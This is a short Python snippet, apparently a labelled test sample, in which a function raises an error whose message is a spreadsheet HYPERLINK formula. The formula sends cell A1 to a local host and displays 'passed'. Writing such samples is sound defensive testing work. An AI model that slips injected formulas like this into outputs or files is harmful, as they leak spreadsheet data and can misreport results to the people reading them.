# Raises an exception whose text a spreadsheet would run.
# stopped by: design
# verdict: error
def prize(x):
    raise ValueError('=HYPERLINK("http://127.0.0.1/?"&A1,"passed")')
